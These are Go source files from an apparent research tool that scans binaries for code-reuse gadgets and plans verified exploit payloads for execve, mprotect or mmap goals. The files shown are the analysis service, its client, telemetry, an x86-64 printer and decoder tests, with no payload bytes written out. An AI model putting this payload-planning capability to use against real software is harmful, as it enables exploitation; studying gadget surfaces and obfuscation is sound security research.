func timingEvent(t core.StageTiming) StageEvent {
	return StageEvent{
		Stage:      t.Name,
		Cached:     t.Cached,
		Millis:     float64(t.Duration.Microseconds()) / 1000,
		AllocBytes: t.AllocBytes,
	}
}
