// Package serve is the gpd analysis service: a long-running server that
// accepts analyze/plan/count requests over HTTP (TCP or a unix socket),
// runs them through one warm shared artifact store, and streams per-stage
// progress plus a canonical result back as JSONL.
//
// The millions-of-users shape the ROADMAP names is: N clients, one warm
// shared cache, bounded worker pools per stage. Three layers provide it:
//
//   - Request keying. Every request is canonicalized into the store's
//     existing chained fingerprint keys (pipeline.BuildKey → ExtractKey →
//     MinimizeKey → PlanKey), so two clients phrasing the same work
//     differently — a program by name vs its inlined source, a preset vs
//     its expanded pass list, defaulted vs explicit options — address the
//     same artifacts.
//   - Cross-request singleflight. Identical concurrent submissions are
//     collapsed twice: the server folds whole requests onto one in-flight
//     execution (joiners replay the winner's progress events and share its
//     result), and the store's per-stage singleflight dedupes partial
//     overlaps underneath.
//   - Bounded per-stage pools. The store's gate (pipeline.Gate) admits a
//     bounded number of concurrent computations per stage and queues the
//     rest, so load bursts turn into backpressure instead of a goroutine
//     pile-up.
//
// Results are byte-identical to local single-process runs: a request's
// canonical rendering (Result.Canon) is a pure function of its fingerprint
// key, pinned by the determinism suites underneath and verified end-to-end
// by the BenchServe experiment and the serve tests.
package serve

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"sort"
	"strings"
	"time"

	"github.com/nofreelunch/gadget-planner/internal/benchprog"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/isa"
	"github.com/nofreelunch/gadget-planner/internal/obfuscate"
	"github.com/nofreelunch/gadget-planner/internal/pipeline"
	"github.com/nofreelunch/gadget-planner/internal/planner"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
	"github.com/nofreelunch/gadget-planner/internal/subsume"
)

// Request is one unit of service work: a source (MiniC program or prebuilt
// SBF binary), an obfuscation configuration, and the operation to run.
// The zero values of the optional fields mean the pipeline defaults, and
// the canonical request key applies them — a defaulted request and an
// explicitly-defaulted one are the same request.
type Request struct {
	// Op selects the pipeline depth: "count" (the classic gadget scan),
	// "analyze" (extraction + subsumption), or "plan" (analyze + planning
	// + payload construction; the default).
	Op string `json:"op,omitempty"`

	// Program names a built-in benchmark program (server-side lookup);
	// Source is inline MiniC; Binary is a marshaled SBF binary. Exactly
	// one must be set. Name is a display label only and never keyed.
	Program string `json:"program,omitempty"`
	Source  string `json:"source,omitempty"`
	Binary  []byte `json:"binary,omitempty"`
	Name    string `json:"name,omitempty"`

	// Obf is the obfuscation spec ("", "llvm", "tigress", or a comma-
	// separated pass list), applied when building from source.
	Obf  string `json:"obf,omitempty"`
	Seed int64  `json:"seed,omitempty"`
	// SelfMod, if nonzero, applies the post-link self-modification
	// transform with this XOR key (x64 builds only).
	SelfMod int `json:"selfmod,omitempty"`

	// ISA selects the code-generation backend for source builds ("x64",
	// "rv64", "rv64c"; empty = x64). Prebuilt binaries carry their own ISA
	// tag and must leave this empty.
	ISA string `json:"isa,omitempty"`

	// Goal scopes the plan op: "execve", "mprotect", "mmap", or "all"
	// (default).
	Goal string `json:"goal,omitempty"`
	// MaxPlans / MaxNodes / TimeoutMS bound the planner (0 = defaults).
	MaxPlans  int   `json:"max_plans,omitempty"`
	MaxNodes  int   `json:"max_nodes,omitempty"`
	TimeoutMS int64 `json:"timeout_ms,omitempty"`
	// SkipVerify accepts solver-concretized payloads without emulation
	// (benchmark arms only).
	SkipVerify bool `json:"skip_verify,omitempty"`
}

// The request operations.
const (
	OpCount   = "count"
	OpAnalyze = "analyze"
	OpPlan    = "plan"
)

// resolved is a canonicalized request: presets expanded, defaults applied,
// and the request key computed from the store's chained fingerprints.
type resolved struct {
	req    Request
	prog   benchprog.Program
	binary []byte // marshaled SBF when the request carries a binary
	passes []obfuscate.Pass
	isa    string // canonical backend name the analysis runs under
	goals  []planner.Goal
	popts  planner.Options
	key    string
}

// payload concretization parameters — the service always uses the core
// defaults (they are part of the plan-stage fingerprint).
const (
	payloadBase = 0x7FFF_8000
	verifySteps = 100_000
)

// resolve canonicalizes the request and derives its key. The key chains
// exactly like the store's stage keys: build fingerprint (source, ordered
// pass names, seed — or binary content hash), then the op-specific
// fingerprints of every stage the op runs, with option defaults applied by
// the same Fingerprint() renderings the store uses.
func (r Request) resolve() (*resolved, error) {
	rr := &resolved{req: r}
	if rr.req.Op == "" {
		rr.req.Op = OpPlan
	}
	switch rr.req.Op {
	case OpCount, OpAnalyze, OpPlan:
	default:
		return nil, fmt.Errorf("serve: unknown op %q", r.Op)
	}

	set := 0
	for _, ok := range []bool{r.Program != "", r.Source != "", len(r.Binary) > 0} {
		if ok {
			set++
		}
	}
	if set != 1 {
		return nil, fmt.Errorf("serve: need exactly one of program, source, binary")
	}

	if _, ok := isa.ByName(r.ISA); !ok {
		return nil, fmt.Errorf("serve: unknown isa %q", r.ISA)
	}
	rr.isa = isa.CanonicalISA(r.ISA)

	var base string
	if len(r.Binary) > 0 {
		if r.Obf != "" {
			return nil, fmt.Errorf("serve: obfuscation applies to source builds, not prebuilt binaries")
		}
		if r.ISA != "" {
			return nil, fmt.Errorf("serve: prebuilt binaries carry their own ISA tag; leave isa empty")
		}
		peek, err := sbf.Unmarshal(r.Binary)
		if err != nil {
			return nil, fmt.Errorf("serve: bad binary: %w", err)
		}
		rr.isa = isa.CanonicalISA(peek.ISA)
		sum := sha256.Sum256(r.Binary)
		rr.binary = r.Binary
		base = "bin:" + hex.EncodeToString(sum[:16])
	} else {
		rr.prog = benchprog.Program{Name: r.Name, Source: r.Source}
		if r.Program != "" {
			p, ok := benchprog.ByName(r.Program)
			if !ok {
				return nil, fmt.Errorf("serve: unknown program %q", r.Program)
			}
			rr.prog = p
		}
		if rr.prog.Name == "" {
			rr.prog.Name = "request"
		}
		passes, err := obfuscate.ParseSpec(r.Obf)
		if err != nil {
			return nil, fmt.Errorf("serve: %w", err)
		}
		rr.passes = passes
		names := make([]string, len(passes))
		for i, p := range passes {
			names[i] = p.Name()
		}
		base = pipeline.BuildKeyISA(rr.prog.Source, names, r.Seed, rr.isa)
	}
	if r.SelfMod != 0 {
		if rr.isa != isa.DefaultISA {
			return nil, fmt.Errorf("serve: selfmod is an x64-only transform (isa %q)", rr.isa)
		}
		base = pipeline.EncodeKey(base, byte(r.SelfMod))
	}

	switch rr.req.Op {
	case OpCount:
		rr.key = pipeline.CountKeyISA(base, 0, rr.isa)
	case OpAnalyze, OpPlan:
		poolKey := pipeline.MinimizeKey(
			pipeline.ExtractKey(base, gadget.Options{ISA: rr.isa}), subsume.Options{})
		rr.key = poolKey
		if rr.req.Op == OpPlan {
			goals, err := goalsFor(r.Goal, rr.isa)
			if err != nil {
				return nil, err
			}
			rr.goals = goals
			rr.popts = planner.Options{
				MaxPlans: r.MaxPlans,
				MaxNodes: r.MaxNodes,
				Timeout:  time.Duration(r.TimeoutMS) * time.Millisecond,
			}
			names := make([]string, len(goals))
			for i, g := range goals {
				names[i] = g.Name
			}
			rr.key = fmt.Sprintf("%s|goals:%s|p:%s|base=%#x,steps=%d,verify=%t",
				poolKey, strings.Join(names, ","), rr.popts.Fingerprint(),
				uint64(payloadBase), verifySteps, !r.SkipVerify)
		}
	}
	return rr, nil
}

// Key returns the request's canonical fingerprint key (see resolve).
func (r Request) Key() (string, error) {
	rr, err := r.resolve()
	if err != nil {
		return "", err
	}
	return rr.key, nil
}

func goalsFor(name, isaName string) ([]planner.Goal, error) {
	all := planner.GoalsForISA(isaName)
	switch name {
	case "", "all":
		return all, nil
	}
	for _, g := range all {
		if g.Name == name {
			return []planner.Goal{g}, nil
		}
	}
	return nil, fmt.Errorf("serve: unknown goal %q", name)
}

// StageEvent is one streamed progress record: a pipeline stage finished
// (or was served from the store) for this request. Millis is the stage's
// original compute cost — a cached stage reports the recorded cost, like
// core.StageTiming.
type StageEvent struct {
	Stage      string  `json:"stage"`
	Cached     bool    `json:"cached"`
	Millis     float64 `json:"ms"`
	AllocBytes uint64  `json:"alloc_bytes"`
}

// CountRow is one gadget-class count (the count op's rows, in canonical
// class order).
type CountRow struct {
	Class string `json:"class"`
	Count int    `json:"count"`
}

// PayloadResult is one verified payload. SHA256 fingerprints the payload
// bytes for identity checks; Data carries them for clients that dump.
type PayloadResult struct {
	Bytes   int    `json:"bytes"`
	Gadgets int    `json:"gadgets"`
	SHA256  string `json:"sha256"`
	Base    uint64 `json:"base"`
	Entry   uint64 `json:"entry"`
	Data    []byte `json:"data,omitempty"`
}

// GoalResult is one goal's planning outcome.
type GoalResult struct {
	Goal     string          `json:"goal"`
	Plans    int             `json:"plans"`
	Payloads []PayloadResult `json:"payloads"`
	Search   string          `json:"search"`
}

// Result is a request's outcome. Everything except Stages is a
// deterministic function of the request key — Canon renders exactly that
// deterministic part, and it is the unit of the byte-identity guarantees.
type Result struct {
	Key       string `json:"key"`
	Op        string `json:"op"`
	Name      string `json:"name,omitempty"`
	TextBytes int    `json:"text_bytes"`

	// Count op.
	Counts  []CountRow `json:"counts,omitempty"`
	Gadgets int        `json:"gadgets,omitempty"`

	// Analyze / plan ops.
	RawPool int          `json:"raw_pool,omitempty"`
	Pool    int          `json:"pool,omitempty"`
	Subsume string       `json:"subsume,omitempty"`
	Goals   []GoalResult `json:"goals,omitempty"`

	// Stages is the progress trail (timing; excluded from Canon).
	Stages []StageEvent `json:"stages,omitempty"`
	// Wall is the serving process's wall-bucket snapshot at response time
	// (telemetry; excluded from Canon). The server streams it as its own
	// JSONL event and the client attaches it here; local Run leaves it nil.
	Wall []pipeline.WallBucketStat `json:"wall,omitempty"`
}

// Canon renders the result's deterministic content: the canonical bytes a
// request must produce identically whether computed locally, served cold,
// or served warm from any tier of the shared store, at any concurrency.
func (r *Result) Canon() string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "key %s\nop %s text=%d\n", r.Key, r.Op, r.TextBytes)
	if r.Op == OpCount {
		fmt.Fprintf(&sb, "gadgets %d\n", r.Gadgets)
		for _, c := range r.Counts {
			fmt.Fprintf(&sb, "  %-8s %7d\n", c.Class, c.Count)
		}
		return sb.String()
	}
	fmt.Fprintf(&sb, "pool raw=%d min=%d\n%s\n", r.RawPool, r.Pool, r.Subsume)
	for _, g := range r.Goals {
		fmt.Fprintf(&sb, "goal %s: plans=%d payloads=%d (%s)\n",
			g.Goal, g.Plans, len(g.Payloads), g.Search)
		for i, p := range g.Payloads {
			fmt.Fprintf(&sb, "  payload %d: %d bytes, %d gadgets, entry=%#x, sha256=%s\n",
				i+1, p.Bytes, p.Gadgets, p.Entry, p.SHA256)
		}
	}
	return sb.String()
}

// countClasses is the canonical gadget-class order for count rows (the
// same order cmd/gadgetcount reports).
var countClasses = []gadget.JmpType{
	gadget.TypeReturn, gadget.TypeUDJ, gadget.TypeUIJ,
	gadget.TypeCDJ, gadget.TypeCIJ, gadget.TypeSyscall,
}

// CountRows orders a gadget-count map into canonical rows.
func CountRows(counts map[gadget.JmpType]int) []CountRow {
	rows := make([]CountRow, 0, len(countClasses))
	for _, t := range countClasses {
		rows = append(rows, CountRow{Class: t.String(), Count: counts[t]})
	}
	// Defensive: any class outside the canonical list lands at the end in
	// name order, so the rendering stays deterministic.
	var extra []CountRow
	for t, n := range counts {
		known := false
		for _, c := range countClasses {
			if t == c {
				known = true
				break
			}
		}
		if !known {
			extra = append(extra, CountRow{Class: t.String(), Count: n})
		}
	}
	sort.Slice(extra, func(i, j int) bool { return extra[i].Class < extra[j].Class })
	return append(rows, extra...)
}
