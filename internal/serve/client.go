package serve

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"time"

	"github.com/nofreelunch/gadget-planner/internal/pipeline"
)

// Client is the thin client side of the analysis service: it submits
// requests to a gpd server and streams back stage progress and the result.
// The cmd/gp and cmd/gadgetcount -server modes are built on it.
type Client struct {
	base string
	hc   *http.Client
}

// Dial returns a client for a gpd address. Accepted forms:
//
//	unix:/path/to/gpd.sock   explicit unix socket
//	/path/to/gpd.sock        unix socket (any address containing a '/')
//	host:port                TCP
//	http://host:port         TCP, scheme explicit
//
// The GPD_ADDR environment variable conventionally carries the address
// (the CLIs use it as the -server default).
func Dial(addr string) (*Client, error) {
	if addr == "" {
		return nil, fmt.Errorf("serve: empty server address")
	}
	if path, ok := strings.CutPrefix(addr, "unix:"); ok {
		return unixClient(path), nil
	}
	if strings.Contains(addr, "/") && !strings.Contains(addr, "://") {
		return unixClient(addr), nil
	}
	base := addr
	if !strings.Contains(base, "://") {
		base = "http://" + base
	}
	return &Client{base: strings.TrimRight(base, "/"), hc: &http.Client{}}, nil
}

func unixClient(path string) *Client {
	transport := &http.Transport{
		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
			var d net.Dialer
			return d.DialContext(ctx, "unix", path)
		},
	}
	// The host is a placeholder; the transport always dials the socket.
	return &Client{base: "http://gpd", hc: &http.Client{Transport: transport}}
}

// Run submits a request and streams the response: progress events go to
// the (optional) callback as they arrive, and the final result is
// returned. A server-side error arrives as an error here.
func (c *Client) Run(ctx context.Context, req Request, progress Progress) (*Result, error) {
	body, err := json.Marshal(req)
	if err != nil {
		return nil, err
	}
	hreq, err := http.NewRequestWithContext(ctx, http.MethodPost, c.base+"/run", bytes.NewReader(body))
	if err != nil {
		return nil, err
	}
	hreq.Header.Set("Content-Type", "application/json")
	resp, err := c.hc.Do(hreq)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		msg, _ := io.ReadAll(io.LimitReader(resp.Body, 4096))
		return nil, fmt.Errorf("serve: %s: %s", resp.Status, strings.TrimSpace(string(msg)))
	}

	sc := bufio.NewScanner(resp.Body)
	sc.Buffer(make([]byte, 64<<10), 64<<20)
	var wall []pipeline.WallBucketStat
	for sc.Scan() {
		line := bytes.TrimSpace(sc.Bytes())
		if len(line) == 0 {
			continue
		}
		var probe struct {
			Event string `json:"event"`
		}
		if err := json.Unmarshal(line, &probe); err != nil {
			return nil, fmt.Errorf("serve: bad response line: %w", err)
		}
		switch probe.Event {
		case "stage":
			if progress != nil {
				var ev stageLine
				if err := json.Unmarshal(line, &ev); err != nil {
					return nil, err
				}
				progress(ev.StageEvent)
			}
		case "wall":
			var wl wallLine
			if err := json.Unmarshal(line, &wl); err != nil {
				return nil, err
			}
			wall = wl.Buckets
		case "result", "error":
			var fin finalLine
			if err := json.Unmarshal(line, &fin); err != nil {
				return nil, err
			}
			if fin.Event == "error" {
				return nil, fmt.Errorf("serve: server error: %s", fin.Error)
			}
			if fin.Result != nil {
				fin.Result.Wall = wall
			}
			return fin.Result, nil
		default:
			return nil, fmt.Errorf("serve: unknown event %q", probe.Event)
		}
	}
	if err := sc.Err(); err != nil {
		return nil, err
	}
	return nil, fmt.Errorf("serve: response ended without a result")
}

// Stats fetches the server's /stats document.
func (c *Client) Stats(ctx context.Context) (*Stats, error) {
	hreq, err := http.NewRequestWithContext(ctx, http.MethodGet, c.base+"/stats", nil)
	if err != nil {
		return nil, err
	}
	resp, err := c.hc.Do(hreq)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return nil, fmt.Errorf("serve: stats: %s", resp.Status)
	}
	var st Stats
	if err := json.NewDecoder(resp.Body).Decode(&st); err != nil {
		return nil, err
	}
	return &st, nil
}

// WaitReady polls /healthz until the server answers or the deadline
// passes — how tests and the bench synchronize with a freshly started gpd.
func (c *Client) WaitReady(ctx context.Context, timeout time.Duration) error {
	deadline := time.Now().Add(timeout)
	for {
		hreq, err := http.NewRequestWithContext(ctx, http.MethodGet, c.base+"/healthz", nil)
		if err != nil {
			return err
		}
		resp, err := c.hc.Do(hreq)
		if err == nil {
			resp.Body.Close()
			if resp.StatusCode == http.StatusOK {
				return nil
			}
		}
		if time.Now().After(deadline) {
			if err != nil {
				return fmt.Errorf("serve: server not ready: %w", err)
			}
			return fmt.Errorf("serve: server not ready")
		}
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-time.After(20 * time.Millisecond):
		}
	}
}
