// Package wall is the process-global wall-time bucket registry. Buckets
// account for suite wall time the per-stage store counters cannot see —
// table rendering, payload verification, emulator replay, fingerprint
// hashing, and (since the predecode overhaul) section decoding. Regions
// spanning several packages record into one registry, and the CLIs print
// one stats line next to the store counters.
//
// The registry lives in its own leaf package because both sides of the
// pipeline depend on it: internal/pipeline (which re-exports the API for
// its callers) records key hashing, while internal/gadget — which pipeline
// itself imports — records predecode time. A process-global singleton keeps
// the consumer a single per-process stats line, exactly like the stage
// counters a Store accumulates per run.
package wall

import (
	"fmt"
	"sort"
	"strings"
	"sync"
	"time"
)

var (
	mu      sync.Mutex
	buckets = map[string]*bucket{}
)

type bucket struct {
	total time.Duration
	count int64
}

// Track starts timing a named region and returns the stop function; use
// `defer wall.Track("render")()` around a region. Safe for concurrent use;
// nested and overlapping regions simply accumulate (the buckets are a
// breakdown, not a partition).
func Track(name string) func() {
	start := time.Now()
	return func() {
		d := time.Since(start)
		mu.Lock()
		b := buckets[name]
		if b == nil {
			b = &bucket{}
			buckets[name] = b
		}
		b.total += d
		b.count++
		mu.Unlock()
	}
}

// BucketStat is one named region's accumulated cost.
type BucketStat struct {
	Name    string  `json:"name"`
	Seconds float64 `json:"seconds"`
	Count   int64   `json:"count"`
}

// Stats snapshots the buckets, most expensive first (name-ordered on ties,
// so the rendering is deterministic for fixed durations).
func Stats() []BucketStat {
	mu.Lock()
	defer mu.Unlock()
	out := make([]BucketStat, 0, len(buckets))
	for name, b := range buckets {
		out = append(out, BucketStat{Name: name, Seconds: b.total.Seconds(), Count: b.count})
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Seconds != out[j].Seconds {
			return out[i].Seconds > out[j].Seconds
		}
		return out[i].Name < out[j].Name
	})
	return out
}

// Reset clears the buckets (benchmarks isolating one pass's breakdown).
func Reset() {
	mu.Lock()
	buckets = map[string]*bucket{}
	mu.Unlock()
}

// Line renders the buckets as one stats line: where the run's non-stage
// wall time went.
func Line() string {
	stats := Stats()
	if len(stats) == 0 {
		return "wall: no tracked regions"
	}
	var sb strings.Builder
	sb.WriteString("wall:")
	for _, b := range stats {
		fmt.Fprintf(&sb, " %s=%.2fs/%d", b.Name, b.Seconds, b.Count)
	}
	sb.WriteString(" time/calls")
	return sb.String()
}
