package isa

import (
	"fmt"
	"strings"
)

// sizePrefix returns the Intel size keyword for memory operands.
func sizePrefix(size uint8) string {
	switch size {
	case 1:
		return "byte"
	case 4:
		return "dword"
	default:
		return "qword"
	}
}

// formatOperand renders one operand in Intel syntax at the given operand size.
func formatOperand(o Operand, size uint8) string {
	switch o.Kind {
	case KindReg:
		return o.Reg.Name(size)
	case KindImm:
		if o.Imm >= 0 && o.Imm < 10 {
			return fmt.Sprintf("%d", o.Imm)
		}
		if o.Imm < 0 {
			return fmt.Sprintf("-0x%x", uint64(-o.Imm))
		}
		return fmt.Sprintf("0x%x", uint64(o.Imm))
	case KindMem:
		var sb strings.Builder
		sb.WriteString(sizePrefix(size))
		sb.WriteString(" [")
		m := o.Mem
		wrote := false
		if m.RIPRel {
			sb.WriteString("rip")
			wrote = true
		}
		if m.HasBase {
			sb.WriteString(m.Base.String())
			wrote = true
		}
		if m.HasIndex {
			if wrote {
				sb.WriteByte('+')
			}
			sb.WriteString(m.Index.String())
			if m.Scale > 1 {
				fmt.Fprintf(&sb, "*%d", m.Scale)
			}
			wrote = true
		}
		if m.Disp != 0 || !wrote {
			switch {
			case !wrote:
				fmt.Fprintf(&sb, "0x%x", uint32(m.Disp))
			case m.Disp < 0:
				fmt.Fprintf(&sb, "-0x%x", uint32(-m.Disp))
			default:
				fmt.Fprintf(&sb, "+0x%x", uint32(m.Disp))
			}
		}
		sb.WriteByte(']')
		return sb.String()
	default:
		return "<none>"
	}
}

// String renders the instruction in Intel syntax, e.g. "mov rax, 0x3b" or
// "jne 0x401234".
func (i Inst) String() string {
	switch i.Op {
	case OpNop, OpRet, OpLeave, OpInt3, OpHlt, OpSyscall, OpCqo:
		if i.Op == OpRet && i.A.Kind == KindImm {
			return fmt.Sprintf("ret %s", formatOperand(i.A, 2))
		}
		return i.Op.String()
	case OpJcc:
		return fmt.Sprintf("j%s %s", i.Cond, formatOperand(i.A, 8))
	case OpSetcc:
		return fmt.Sprintf("set%s %s", i.Cond, formatOperand(i.A, 1))
	case OpJmp, OpCall:
		return fmt.Sprintf("%s %s", i.Op, formatOperand(i.A, 8))
	case OpPush, OpPop:
		return fmt.Sprintf("%s %s", i.Op, formatOperand(i.A, 8))
	case OpNot, OpNeg, OpInc, OpDec, OpIdiv:
		return fmt.Sprintf("%s %s", i.Op, formatOperand(i.A, i.opSize()))
	default:
		if i.B.Kind == KindNone {
			return fmt.Sprintf("%s %s", i.Op, formatOperand(i.A, i.opSize()))
		}
		aSize, bSize := i.opSize(), i.opSize()
		switch i.Op {
		case OpMovzx:
			bSize = 1
		case OpMovsxd:
			bSize = 4
		case OpShl, OpShr, OpSar:
			if i.B.Kind == KindReg {
				bSize = 1 // cl
			}
		}
		return fmt.Sprintf("%s %s, %s", i.Op, formatOperand(i.A, aSize), formatOperand(i.B, bSize))
	}
}

func (i Inst) opSize() uint8 {
	if i.Size == 0 {
		return 8
	}
	return i.Size
}

// DisasmText decodes straight-line code starting at addr and renders one
// instruction per line, stopping at the first undecodable byte or after the
// buffer is exhausted. It is intended for diagnostics and examples.
func DisasmText(code []byte, addr uint64) string {
	var sb strings.Builder
	pos := 0
	for pos < len(code) {
		inst, err := Decode(code[pos:], addr+uint64(pos))
		if err != nil {
			fmt.Fprintf(&sb, "%#08x: (bad byte %#02x)\n", addr+uint64(pos), code[pos])
			pos++
			continue
		}
		fmt.Fprintf(&sb, "%#08x: %s\n", inst.Addr, inst)
		pos += int(inst.Len)
	}
	return sb.String()
}
