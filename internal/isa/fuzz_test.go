package isa

import "testing"

// FuzzDecode asserts the decoder's total-safety contract on arbitrary
// bytes: never panic, never claim more bytes than provided, never return a
// zero-length instruction, and always re-encode stably.
func FuzzDecode(f *testing.F) {
	f.Add([]byte{0x5F, 0xC3})
	f.Add([]byte{0x48, 0x8B, 0x44, 0x24, 0x10})
	f.Add([]byte{0x0F, 0x05})
	f.Add([]byte{0x48, 0xB8, 1, 2, 3, 4, 5, 6, 7, 8})
	f.Add([]byte{0xE9, 0xFF, 0xFF, 0xFF, 0x7F})
	f.Add([]byte{0x41, 0xFF, 0xE0})
	f.Fuzz(func(t *testing.T, data []byte) {
		inst, err := Decode(data, 0x400000)
		if err != nil {
			return
		}
		if inst.Len == 0 || int(inst.Len) > len(data) || inst.Len > 16 {
			t.Fatalf("bad length %d for %x", inst.Len, data)
		}
		_ = inst.String()
		// Re-encoding the decoded form must be stable (encode→decode→encode
		// fixpoint), when the form is encodable at all.
		enc, err := Encode(inst, 0x400000)
		if err != nil {
			return
		}
		dec, err := Decode(enc, 0x400000)
		if err != nil {
			t.Fatalf("re-decode of %x failed: %v", enc, err)
		}
		enc2, err := Encode(dec, 0x400000)
		if err != nil {
			t.Fatalf("re-encode failed: %v", err)
		}
		if string(enc) != string(enc2) {
			t.Fatalf("unstable: %x vs %x", enc, enc2)
		}
	})
}
