package isa

import (
	"math/rand"
	"testing"
)

func BenchmarkDecodeLinear(b *testing.B) {
	// A realistic instruction mix.
	var code []byte
	insts := []Inst{
		{Op: OpMov, Size: 8, A: RegOp(RAX), B: MemOp(RBP, -0x20)},
		{Op: OpAdd, Size: 8, A: RegOp(RAX), B: RegOp(RCX)},
		{Op: OpMov, Size: 8, A: MemOp(RBP, -0x28), B: RegOp(RAX)},
		{Op: OpCmp, Size: 8, A: RegOp(RAX), B: ImmOp(100)},
		{Op: OpPush, A: RegOp(RBX)},
		{Op: OpPop, A: RegOp(RBX)},
		{Op: OpLea, Size: 8, A: RegOp(RDX), B: MemOpIdx(RBX, RCX, 8, 0x40)},
		{Op: OpRet},
	}
	for _, inst := range insts {
		enc, err := Encode(inst, uint64(len(code)))
		if err != nil {
			b.Fatal(err)
		}
		code = append(code, enc...)
	}
	b.SetBytes(int64(len(code)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		pos := 0
		for pos < len(code) {
			inst, err := Decode(code[pos:], uint64(pos))
			if err != nil {
				b.Fatal(err)
			}
			pos += int(inst.Len)
		}
	}
}

func BenchmarkDecodeRandomBytes(b *testing.B) {
	rng := rand.New(rand.NewSource(1))
	buf := make([]byte, 4096)
	rng.Read(buf)
	b.SetBytes(int64(len(buf)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		for off := 0; off < len(buf)-16; off++ {
			_, _ = Decode(buf[off:], uint64(off))
		}
	}
}

func BenchmarkEncode(b *testing.B) {
	inst := Inst{Op: OpMov, Size: 8, A: RegOp(RAX), B: MemOpIdx(RBX, RCX, 8, 0x1234)}
	buf := make([]byte, 0, 16)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		var err error
		buf, err = Append(buf[:0], inst, 0x400000)
		if err != nil {
			b.Fatal(err)
		}
	}
}
