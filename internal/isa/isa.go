// Package isa implements a substantial subset of the x86-64 instruction set:
// an instruction representation, a binary encoder, a binary decoder that can
// start at any byte offset (the property that gives rise to unaligned
// code-reuse gadgets), and an Intel-syntax printer.
//
// The subset covers the instructions emitted by the MiniC code generator and
// the obfuscation passes, plus everything a code-reuse gadget scanner needs:
// data movement, ALU operations, stack operations, direct/indirect/conditional
// control flow, and syscall.
package isa

import "fmt"

// Reg is a general-purpose 64-bit register. The numeric values match the
// x86-64 hardware register numbers used in ModRM/REX encoding.
type Reg uint8

// General-purpose registers in hardware encoding order.
const (
	RAX Reg = iota
	RCX
	RDX
	RBX
	RSP
	RBP
	RSI
	RDI
	R8
	R9
	R10
	R11
	R12
	R13
	R14
	R15

	// NumRegs is the number of x86-64 general-purpose registers.
	NumRegs = 16

	// MaxRegs is the largest register file any backend exposes (RV64's 32
	// integer registers). Fixed-size scratch arrays shared across backends
	// (e.g. the emulator register file) are sized by it.
	MaxRegs = 32
)

var _regNames = [NumRegs]string{
	"rax", "rcx", "rdx", "rbx", "rsp", "rbp", "rsi", "rdi",
	"r8", "r9", "r10", "r11", "r12", "r13", "r14", "r15",
}

var _regNames32 = [NumRegs]string{
	"eax", "ecx", "edx", "ebx", "esp", "ebp", "esi", "edi",
	"r8d", "r9d", "r10d", "r11d", "r12d", "r13d", "r14d", "r15d",
}

var _regNames8 = [NumRegs]string{
	"al", "cl", "dl", "bl", "spl", "bpl", "sil", "dil",
	"r8b", "r9b", "r10b", "r11b", "r12b", "r13b", "r14b", "r15b",
}

// String returns the 64-bit name of the register (e.g. "rax").
func (r Reg) String() string {
	if r < NumRegs {
		return _regNames[r]
	}
	return fmt.Sprintf("reg(%d)", uint8(r))
}

// Name returns the register name at the given operand size in bytes (1, 4, 8).
func (r Reg) Name(size uint8) string {
	if r >= NumRegs {
		return r.String()
	}
	switch size {
	case 1:
		return _regNames8[r]
	case 4:
		return _regNames32[r]
	default:
		return _regNames[r]
	}
}

// RegByName maps a 64-bit register name (e.g. "rax") to its Reg value.
func RegByName(name string) (Reg, bool) {
	for i, n := range _regNames {
		if n == name {
			return Reg(i), true
		}
	}
	for i, n := range _regNames32 {
		if n == name {
			return Reg(i), true
		}
	}
	for i, n := range _regNames8 {
		if n == name {
			return Reg(i), true
		}
	}
	return 0, false
}

// Cond is an x86 condition code, numbered as in the hardware encoding
// (the low nibble of the 0F 8x / 0F 9x opcodes).
type Cond uint8

// Condition codes.
const (
	CondO  Cond = 0x0 // overflow
	CondNO Cond = 0x1 // not overflow
	CondB  Cond = 0x2 // below (unsigned <)
	CondAE Cond = 0x3 // above or equal (unsigned >=)
	CondE  Cond = 0x4 // equal / zero
	CondNE Cond = 0x5 // not equal / not zero
	CondBE Cond = 0x6 // below or equal (unsigned <=)
	CondA  Cond = 0x7 // above (unsigned >)
	CondS  Cond = 0x8 // sign (negative)
	CondNS Cond = 0x9 // not sign
	CondP  Cond = 0xA // parity even
	CondNP Cond = 0xB // parity odd
	CondL  Cond = 0xC // less (signed <)
	CondGE Cond = 0xD // greater or equal (signed >=)
	CondLE Cond = 0xE // less or equal (signed <=)
	CondG  Cond = 0xF // greater (signed >)
)

var _condNames = [16]string{
	"o", "no", "b", "ae", "e", "ne", "be", "a",
	"s", "ns", "p", "np", "l", "ge", "le", "g",
}

// String returns the condition suffix (e.g. "e" for equal).
func (c Cond) String() string {
	if c < 16 {
		return _condNames[c]
	}
	return fmt.Sprintf("cc(%d)", uint8(c))
}

// Negate returns the opposite condition (E <-> NE, L <-> GE, ...).
func (c Cond) Negate() Cond { return c ^ 1 }

// Op is an instruction mnemonic.
type Op uint8

// Instruction mnemonics. Direct versus indirect jumps and calls are
// distinguished by the operand kind (immediate target versus register or
// memory target), not by separate mnemonics.
const (
	OpInvalid Op = iota
	OpMov
	OpLea
	OpAdd
	OpSub
	OpAnd
	OpOr
	OpXor
	OpCmp
	OpTest
	OpNot
	OpNeg
	OpImul // two-operand form: imul reg, r/m
	OpShl
	OpShr
	OpSar
	OpInc
	OpDec
	OpPush
	OpPop
	OpRet
	OpJmp
	OpJcc
	OpCall
	OpSyscall
	OpNop
	OpLeave
	OpInt3
	OpHlt
	OpXchg
	OpMovzx  // movzx reg, r/m8
	OpMovsxd // movsxd reg64, r/m32
	OpSetcc
	OpCqo
	OpIdiv

	// RISC-V specific mnemonics (never produced by the x86-64 decoder).
	// Three-operand ALU forms reuse the x86 mnemonics above with the C
	// operand set (add rd, rs1, rs2); the ops below have no x86 analogue.
